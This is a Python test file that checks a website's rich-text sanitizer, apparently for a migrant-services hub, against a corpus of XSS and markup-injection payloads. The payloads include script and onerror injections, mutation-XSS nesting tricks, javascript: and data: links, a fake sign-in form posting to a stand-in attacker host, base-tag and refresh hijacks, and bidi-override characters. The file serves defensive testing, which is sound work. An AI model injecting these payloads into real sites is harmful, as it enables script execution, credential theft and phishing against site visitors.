"""One corpus of attempts through every way in which people's text becomes something to show."""

from __future__ import annotations

import html
import re
from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st
from playwright.sync_api import Browser

from hub import richtext

# Markdown, HTML, and what lies between them. None of it may run, fetch, or pose as the site.
ATTEMPTS = [
    "<script>alert(1)</script>",
    "<ScRiPt/src=//evil.example/x.js>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "![seen](https://evil.example/pixel.gif)",
    "![seen][1]\n\n[1]: https://evil.example/pixel.gif 'title'",
    "<svg onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<math><mi><mglyph><style><!--</style><a href='--><img src=1 onerror=alert(1)>'>x</a>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=code><button>Sign in</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<p id=main class=notice style='position:fixed;inset:0' data-controller=w-action>over</p>",
    "<a href='/x' id=a class=b style=c data-d=e onclick=alert(1) ping=//e.example>x</a>",
    '<a href="https://a.example/" title=\'"><img src=x onerror=alert(1)>\'>x</a>',
    "<a href='https://a.example/\" onmouseover=alert(1) x=\"'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript:1)",
    "[x](javascript:80/%0aalert(1))",
    "<javascript:alert(1)>",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](blob:https://a.example/1)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](</\t/evil.example/>)",
    "[x](\x01javascript:alert(1))",
    "[x](http:javascript:alert(1))",
    "[x](https://a.example \"' onmouseover=alert(1) '\")",
    "<a href='javascript:1'>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='/&#9;/evil.example/'>x</a>",
    "<a href='&#10;//evil.example/'>x</a>",
    "<a href='\\\\evil.example\\'>x</a>",
    "<a href='https:evil.example'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "`<img src=x onerror=alert(1)>`",
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "| <script>alert(1)</script> |\n|---|\n| [x](javascript:1) |",
    "1. one\n\n<ol start='1\" onclick=\"alert(1)'><li>x</li></ol>",
    "[x]: javascript:alert(1)\n\n[x]",
    "a\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "\ud800<script>alert(1)</script>",
    "\u202egnp.exe\u202c \u2066never closed",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "><>'\"&" * 200,
    "<a href='" + "x" * 20_000,
    "<div>" * 3_000 + "deep",
]


def assert_holds_nothing_but_text(rendered: str) -> None:
    """Only elements on the list, with the attributes on the list."""
    for element in BeautifulSoup(rendered, "html.parser").find_all(True):
        assert element.name in richtext.ELEMENTS, element
        attributes = dict(element.attrs)
        if element.name == "a":
            assert set(attributes) <= {"href", "rel"}, element
            assert_leads_to_an_allowed_place(str(attributes.get("href", "/")))
        elif element.name == "ol":
            assert set(attributes) <= {"start"}, element
        else:
            assert attributes == {}, element
    assert not re.search(r"[\x00\u202a-\u202e]", rendered)


def assert_leads_to_an_allowed_place(address: str) -> None:
    # As a browser reads it: tabs and line ends are left out, a backslash is a slash.
    read = re.sub(r"[\t\r\n]", "", address).strip("".join(map(chr, range(33)))).replace("\\", "/")
    assert not read.startswith("//"), address
    assert urlsplit(read).scheme in ("", "http", "https", "mailto"), address


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=range(len(ATTEMPTS)))
def test_an_attempt_becomes_nothing_but_text(attempt: str) -> None:
    assert_holds_nothing_but_text(richtext.render(attempt))
    assert_holds_nothing_but_text(richtext.clean_html(attempt))
    assert_holds_nothing_but_text(richtext.render_inline(attempt))
    # Plain words are escaped by whoever shows them; no tag survives as a tag.
    for words in (richtext.plain(attempt), richtext.excerpt(attempt)):
        assert_holds_nothing_but_text(html.escape(words))
    assert "alert" not in richtext.strip_tags(f"<p>x</p><script>{attempt}</script>")


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=range(len(ATTEMPTS)))
def test_cleaning_twice_changes_nothing(attempt: str) -> None:
    once = richtext.clean_html(attempt)
    assert richtext.clean_html(once) == once
    rendered = richtext.render(attempt)
    assert richtext.clean_html(rendered) == rendered


@settings(max_examples=150, deadline=None)
@given(st.text(st.sampled_from("<>\"'&;:/()[]!`\\ \t\n=#*ajs1科ع")), st.sampled_from(ATTEMPTS[:55]))
def test_no_text_put_round_an_attempt_opens_the_wall(text: str, attempt: str) -> None:
    at = len(text) // 2
    assert_holds_nothing_but_text(richtext.render(text[:at] + attempt + text[at:]))
    assert_holds_nothing_but_text(richtext.clean_html(text[:at] + attempt + text[at:]))


def test_what_people_write_keeps_its_shape() -> None:
    rendered = richtext.render(
        "# Aims\n\n*Work* **permits** for `nurses`\n\n- one\n- two\n\n3. three\n\n> said\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\nsee https://a.example/x, [here](/en/) or <a@b.example>"
    )
    soup = BeautifulSoup(rendered, "html.parser")
    assert soup.h1 is None  # the page's own
    assert soup.h3 is not None
    assert soup.h3.text == "Aims"
    for element in ("em", "strong", "code", "ul", "li", "blockquote", "table", "th", "td"):
        assert soup.find(element), element
    assert soup.ol is not None
    assert soup.ol["start"] == "3"
    assert [link["href"] for link in soup.find_all("a")] == [
        "https://a.example/x",
        "/en/",
        "mailto:a@b.example",
    ]
    assert all("nofollow" in link["rel"] and "noopener" in link["rel"] for link in soup("a"))


def test_a_picture_becomes_a_link_to_it() -> None:
    rendered = richtext.render("![A map](https://a.example/map.png)")
    assert re.fullmatch(
        r'<p><a href="https://a.example/map.png" rel="[^"]+">A map</a></p>\s*', rendered
    )


@pytest.mark.parametrize(
    ("address", "allowed"),
    [
        ("https://a.example/x?y#z", True),
        ("HTTP://a.example", True),
        ("mailto:a@b.example", True),
        ("/", True),
        ("/en/practices/", True),
        ("?page=2", True),
        ("#top", True),
        ("//a.example", False),
        ("/\\a.example", False),
        ("/\t/a.example", False),
        ("https:///a.example", False),
        ("javascript:1", False),
        ("tel:1", False),
        ("a.example", False),
        ("", False),
    ],
)
def test_a_link_leads_to_the_web_to_mail_or_to_this_site(address: str, allowed: bool) -> None:
    assert richtext.link_is_allowed(address) is allowed


@pytest.mark.parametrize("letter", ["<", "&", '"', "移", "*a "])
def test_the_longest_text_that_a_form_takes_is_shown_to_its_end(letter: str) -> None:
    source = (letter * 20_000)[:19_990] + " the end."
    assert richtext.plain(source).endswith("the end.")
    assert len(richtext.plain(source)) >= 19_000


def test_a_longer_text_than_forms_take_is_cut() -> None:
    assert len(richtext.plain("a" * 60_000)) == richtext.MAX_LENGTH


def test_what_turns_the_direction_of_the_page_is_taken_out() -> None:
    assert richtext.plain("a\u202eb\u202c c") == "ab c"
    balanced = "see \u2068العربية\u2069 there"
    assert richtext.plain(balanced) == balanced
    assert richtext.plain("never closed \u2067x") == "never closed x"


@settings(max_examples=200, deadline=None)
@given(st.text(st.sampled_from("ab .,-+1)\n\t*_`<&#=عل移😀\u00a0\u2028"), max_size=60))
def test_a_text_without_markdown_reads_as_the_same_words_on_the_short_way(source: str) -> None:
    assert richtext.plain(source) == richtext.strip_tags(richtext.render(source))


@pytest.mark.parametrize(
    ("language", "source", "length", "expected"),
    [
        ("en", "Short enough.", 20, "Short enough."),
        ("en", "One two three four", 14, "One two three…"),
        ("en", "One two three four", 13, "One two three…"),
        ("en", "It ended here. And then more came", 18, "It ended here."),
        ("en", "About 3.5 per cent of all", 8, "About…"),
        ("en", "**Work** and, later", 10, "Work and…"),
        ("ar", "دار إيواء حكومية في عمّان، تستقبل", 26, "دار إيواء حكومية في عمّان…"),
        ("ar", "هل تم ذلك؟ نعم تم ذلك كله", 12, "هل تم ذلك؟"),
        ("ru", "Служба помогает мигрантам", 16, "Служба помогает…"),
        ("zh", "本项目为移民工人提供法律援助和培训", 8, "本项目为移民工人…"),
        ("zh", "为移民提供帮助。之后还有更多", 9, "为移民提供帮助。"),
        ("zh", "本项目 IOM 为移民工人提供法律援助", 12, "本项目 IOM 为移民工…"),
        ("hi", "किताबकिताबकिताब", 6, "किताब…"),
        ("", "👩‍👩‍👧‍👦👩‍👩‍👧‍👦", 9, "👩‍👩‍👧‍👦…"),
    ],
)
def test_an_excerpt_is_cut_where_its_script_allows(
    language: str, source: str, length: int, expected: str
) -> None:
    assert richtext.excerpt(source, length, language) == expected


@pytest.mark.browser
def test_a_browser_makes_of_the_attempts_what_the_list_allows_and_runs_and_fetches_nothing(
    chromium: Browser,
) -> None:
    fetched: list[str] = []
    page = chromium.new_page()
    page.on("request", lambda request: fetched.append(request.url))
    page.on("dialog", lambda dialog: fetched.append(f"dialog: {dialog.message}"))
    found = page.evaluate(
        """(texts) => texts.flatMap((text) => {
             document.body.innerHTML = text;
             return [...document.body.querySelectorAll("*")].flatMap((each) => [
               each.localName,
               ...[...each.attributes].map((one) => `${each.localName} ${one.name}`),
               ...(each.href ? [each.protocol] : []),
             ]);
           })""",
        [way(attempt) for attempt in ATTEMPTS for way in (richtext.render, richtext.clean_html)],
    )
    page.wait_for_timeout(300)
    page.close()
    # ":" is an address of this site, seen from a page that has none.
    places = {"http:", "https:", "mailto:", ":"}
    assert set(found) - richtext.ELEMENTS <= {"a href", "a rel", "ol start"} | places
    assert fetched == []
